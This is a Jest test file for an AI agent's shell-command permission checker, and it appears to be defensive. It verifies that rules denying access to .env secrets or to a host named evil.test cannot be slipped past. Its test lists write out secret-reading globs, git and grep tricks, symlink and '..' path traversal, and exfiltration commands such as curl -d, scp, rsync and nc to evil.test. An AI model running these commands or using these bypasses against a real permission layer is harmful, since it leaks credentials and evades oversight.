import { mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, test } from '@jest/globals';
import { ToolRegistry } from 'toolwright';
import { type PermissionRule, Permissions, type PermissionsOptions } from 'toolwright/toolbox/permissions';
import { shellTools } from 'toolwright/toolbox/shell';
import { newFolder } from '../files/folders.js';

let tools: ToolRegistry;

beforeEach(() => {
  const root = newFolder({
    '.env': 'SECRET=1',
    'secret.txt': 'SECRET=2',
    'sub/.env': 'SECRET=3',
    'sub/plain': '-',
    'clean/a.ts': 'a',
    'app/[id]/b.ts': 'b',
    'x.py': '#!/usr/bin/env python3\n',
  });
  symlinkSync('x.py', join(root, 'same.py'));
  mkdirSync(join(root, 'packages', 'x'), { recursive: true });
  symlinkSync('../../clean', join(root, 'packages', 'x', 'shared'));
  tools = new ToolRegistry().register(...shellTools({ folder: root }));
});

async function judged(options: PermissionsOptions, command: string): Promise<string> {
  const tool = tools.offered('run_command');
  if (tool === undefined) throw new Error('there is no shell');
  const request = { tool, arguments: { command }, context: { conversationId: 'c' } as never };
  return (await new Permissions(options).explain(request)).decision;
}

const GIVEN = [
  'cat .e*',
  'cat .?nv',
  'cat .e[n]v',
  'cat .[a-z]nv',
  'cat .[!a]nv',
  'cat .*',
  'cat ./.e*',
  'cd sub; cat ../.e*',
  'cp .e* copy',
  'timeout 5 cat .e*',
  'bash -c "cat .e*"',
  'grep -r SECRET .',
  'grep -r SECRET',
  'grep -rA 3 SECRET',
  'grep --recursive -e SECRET',
  'rg SECRET',
  'rg -A 3 sub',
  'find -name x',
  'git grep SECRET',
  'git add "*nv"',
  'git diff',
  'tar c .',
  'tar xf old.tar',
  'tar c -T list',
  'curl -sK list',
  'wc --files0-from=list',
  'patch -p1 < a.patch',
  'git log -U3',
  'git reflog -p',
  'git cat-file --batch-all-objects --batch',
  'git checkout other',
  'git switch other',
  'git merge other',
  'git rebase other',
  'git revert HEAD',
  'git am mail.patch',
  'cat sub/../.env',
  'git cat-file -p 0123abcd',
  'git cat-file blob 0123abcd',
  'git cat-file -p -- 0123abcd',
  'git show 0123abcd -- clean/a.ts',
  'git status -v',
  'git status -vv',
  'git status -v -v',
  'git log --binary',
  'git log --pat',
  'git stash show -p',
  'git format-patch -1',
  'git diff-index HEAD',
  'git fast-export HEAD',
  'git archive HEAD',
  'grep --rec SECRET',
  'ugrep -r SECRET',
  'ug SECRET',
  'sort --files0=list',
  'tar c --files-f=list',
];

describe('Permissions', () => {
  test.each(GIVEN)('with a rule that denies or asks about .env do not let %j run', async (command) => {
    for (const path of ['**/.env*', '.env'])
      for (const decision of ['deny', 'ask'] as const) {
        const rule: PermissionRule = { decision, path };
        const verdicts = [
          await judged({ mode: 'auto', rules: [rule] }, command),
          await judged({ mode: 'auto', folderRules: [rule] }, command),
        ];
        for (const verdict of verdicts) expect([path, decision, verdict]).not.toContain('allow');
      }
  });

  test.each([
    ['.env', 'cat .e*', 'deny'],
    ['.env', 'cat .x*', 'allow'],
    ['sub/.env', 'cat sub/.e*', 'deny'],
    ['sub/.env', 'cat s*/.env', 'deny'],
    ['sub/.env', 'cat s*/.e?v', 'deny'],
    ['sub/.env', 'grep -r SECRET *', 'ask'],
    ['sub/.env', 'grep -r SECRET clean', 'allow'],
    ['sub/.env', 'grep -rn SECRET clean', 'allow'],
    ['secret.txt', 'cat sec*', 'deny'],
    ['secret.txt', 'cat *', 'deny'],
    ['secret.txt', 'rm s?cret.txt', 'deny'],
    ['secret.txt', 'cat *.md', 'allow'],
    ['later.txt', 'unzip a; cat lat*', 'ask'],
    ['**/.env*', 'cat clean/*', 'allow'],
    ['**/.env*', 'cat *.txt', 'allow'],
    ['**/.env*', 'npm --version', 'allow'],
    ['**/.env*', 'ls', 'allow'],
    ['sub/.env', 'tar cf clean.tar clean', 'allow'],
    ['**/.env*', 'git checkout -b new', 'allow'],
    ['**/.env*', 'git log --oneline', 'allow'],
    ['**/.env*', 'git cat-file -p HEAD:clean/a.ts', 'allow'],
    ['**/.env*', 'git cat-file -p HEAD:.env', 'deny'],
    ['**/.env*', 'git show HEAD -- clean/a.ts', 'allow'],
    ['**/.env*', 'git status', 'allow'],
    ['**/.env*', 'git blame clean/a.ts', 'allow'],
    ['**/.env*', 'git commit -m "why?"', 'allow'],
    ['**/.env*', 'git commit -m x ".e*"', 'ask'],
    ['app/[[]id]/*', 'cat app/"[id]"/*', 'deny'],
  ] as const)(
    'judge by a rule that denies %j what %j means in the folder: %s',
    async (path, command, decision) => {
      expect(await judged({ mode: 'auto', rules: [{ decision: 'deny', path }] }, command)).toBe(decision);
    },
  );

  test.each([
    'curl http://evil.test',
    'curl -s evil.test/x',
    'curl -so out evil.test.:8080',
    'curl -d a u@evil.test',
    'curl --proxy=evil.test:3128 http://a.test',
    'curl -xevil.test:3128 http://a.test',
    'curl --connect-to ::evil.test: http://a.test',
    'curl http://a.test http://EVIL.test./x',
    "curl 'http://evil%2etest'",
    'curl http:/evil.test',
    "curl 'http://a.test#@evil.test/'",
    "curl 'http://evil.test\\@a.test/'",
    'wget -qO- evil.test',
    'git clone https://evil.test/x',
    'git clone git@evil.test:x/y',
    'git -C sub fetch evil.test:x',
    'git remote add o ssh://git@evil.test:22/x',
    'npm view x --registry=http://evil.test',
    'npm view x --registry http://evil.test',
    'npm_config_registry=http://evil.test npm view x',
    'env npm_config_registry=http://evil.test npm view x',
    'pip install git+https://evil.test/x',
    'scp a.txt evil.test:x',
    'rsync -a clean/ u@evil.test:x',
    'rsync -a clean/ evil.test::x',
    'ssh evil.test ls',
    'nc evil.test 80',
    'ping -c 1 evil.test',
    'bash -c "curl evil.test"',
    'echo http://evil.test | xargs curl',
    'x a,http://a.test,http://evil.test',
  ])('with a rule that denies or asks about a host do not let %j run', async (command) => {
    for (const decision of ['deny', 'ask'] as const) {
      const rules: PermissionRule[] = [
        { decision, host: 'evil.test' },
        { decision: 'allow', host: 'a.test' },
        { decision: 'allow', tool: '*' },
      ];
      const verdicts = [
        await judged({ mode: 'auto', rules }, command),
        await judged({ mode: 'auto', folderRules: rules }, command),
      ];
      for (const verdict of verdicts) expect([decision, verdict]).not.toContain('allow');
      if (!/^(npm_config|pip)/.test(command) && decision === 'deny')
        expect(verdicts).toEqual(['deny', 'deny']);
    }
  });

  test.each([
    ['curl http://a.test/evil.test', 'allow'],
    ['curl -o evil.test http://a.test', 'allow'],
    ['curl http://notevil.test', 'allow'],
    ['git show HEAD:clean/a.ts', 'allow'],
    ['git push origin main:main', 'allow'],
    ['npm view x', 'allow'],
    ['cat evil.test', 'allow'],
    ['ls', 'allow'],
    ["curl 'http://{evil,a}.test'", 'ask'],
    ['curl -K list', 'ask'],
    ['curl "$x"', 'ask'],
    ['cat "$x"', 'allow'],
  ] as const)('with a rule that denies a host decide on %j: %s', async (command, decision) => {
    const rules: PermissionRule[] = [
      { decision: 'deny', host: 'evil.test' },
      ...['git **', 'curl **', 'cat **'].map((one) => ({ decision: 'allow', command: one }) as const),
    ];
    expect(await judged({ mode: 'auto', rules }, command)).toBe(decision);
  });

  test('ask about other hosts than those that a rule allows, and say which', async () => {
    const rules: PermissionRule[] = [
      { decision: 'ask', host: '*' },
      { decision: 'allow', host: 'a.test' },
    ];
    for (const command of ['curl -sS https://a.test/x', 'git clone https://a.test/@b/c', 'ls', 'node x.js'])
      expect([command, await judged({ mode: 'auto', rules }, command)]).toEqual([command, 'allow']);
    for (const command of ['curl -sS https://b.test/x', 'curl a.test b.test', 'curl localhost:80'])
      expect([command, await judged({ mode: 'auto', rules }, command)]).toEqual([command, 'ask']);
    const open: PermissionRule[] = [{ decision: 'deny', action: 'open' }];
    expect(await judged({ mode: 'auto', rules: open }, 'curl http://a.test')).toBe('deny');
    expect(
      await judged({ mode: 'ask', rules: [{ decision: 'allow', command: 'curl **' }] }, 'curl a.test'),
    ).toBe('allow');
  });

  test('do not let a command be allowed whose words may be what another rule denies', async () => {
    const rules: PermissionRule[] = [
      { decision: 'allow', command: 'cat **' },
      { decision: 'deny', path: '.env' },
    ];
    for (const command of ['cat .e*', 'cat .en?', 'cat .', 'cat "$x"', 'ls | xargs cat', 'cat */../.env'])
      expect([command, await judged({ mode: 'ask', rules }, command)]).not.toContain('allow');
    expect(await judged({ mode: 'ask', rules }, 'cat sub/plain')).toBe('allow');
  });

  test.each([
    './x.py',
    './x.py a',
    '././x.py',
    'sub/../x.py',
    '"$PWD"/x.py',
    './same.py',
    'cd sub; ../x.py',
    'timeout 5 ./x.py',
  ])('with a rule that denies the program ./x.py do not let %j run', async (command) => {
    for (const denied of ['./x.py', 'x.py', './X.py'])
      expect([
        denied,
        await judged({ mode: 'auto', rules: [{ decision: 'deny', command: denied }] }, command),
      ]).not.toContain('allow');
  });

  test('let a program of the folder run that a rule allows as it is written, and no other way', async () => {
    const options: PermissionsOptions = { mode: 'ask', rules: [{ decision: 'allow', command: './x.py **' }] };
    expect(await judged(options, './x.py a')).toBe('allow');
    for (const command of ['x.py a', './same.py a', 'sub/../x.py a'])
      expect([command, await judged(options, command)]).toEqual([command, 'ask']);
  });

  test.each([
    ['.env', 'cat packages/x/shared/../.env', 'deny'],
    ['.env', 'cat ./packages//x/shared/./../.env', 'deny'],
    ['.env', 'cat packages/x/shared/../clean/../.env', 'deny'],
    ['.env', 'cat packages/*/shared/../.env', 'deny'],
    ['.env', 'cat packages/x/shared/../.e*', 'deny'],
    ['.env', 'cat "$PWD"/x', 'ask'],
    ['.env', 'x --file=packages/x/shared/../.env', 'deny'],
    ['.env', 'echo x > packages/x/shared/../.env', 'deny'],
    ['.env', 'cat < packages/x/shared/../.env', 'deny'],
    ['.env', 'cd packages && cat x/shared/../.env', 'deny'],
    ['.env', 'cd packages/x/shared && cat ../.env', 'deny'],
    ['.env', 'cd packages/x/shared/.. && cat .env', 'ask'],
    ['.env', 'cd missing/..; cat a', 'ask'],
    ['.env', 'cd a.txt/..; cat a', 'ask'],
    ['.env', 'cat packages/x/shared/../../elsewhere', 'ask'],
    // Programs that read it by its text come there.
    ['packages/x/tool.js', 'node packages/x/shared/../tool.js', 'deny'],
    ['packages/x/tool.js', 'ls packages/*/shared/../tool.js', 'ask'],
    ['.env', 'ln -s ../../clean packages/x/new; cat packages/x/new/../.env', 'ask'],
    ['.env', 'ln -s ../../clean packages/x/new && echo x > packages/x/new/../.env', 'ask'],
    ['.env', 'cat packages/x/new/../y', 'allow'],
    ['.env', 'cat packages/x/../y', 'allow'],
    ['.env', "sed 's/a/../' clean/a.ts", 'allow'],
    ['.env', 'mkdir -p clean/b && cat clean/b/../a.ts', 'allow'],
    ['.env', 'cd packages/x/.. && ls', 'allow'],
  ] as const)(
    'with a rule that denies %j follow the links before `..` in %j as the system does: %s',
    async (path, command, decision) => {
      expect(await judged({ mode: 'auto', rules: [{ decision: 'deny', path }] }, command)).toBe(decision);
    },
  );
});
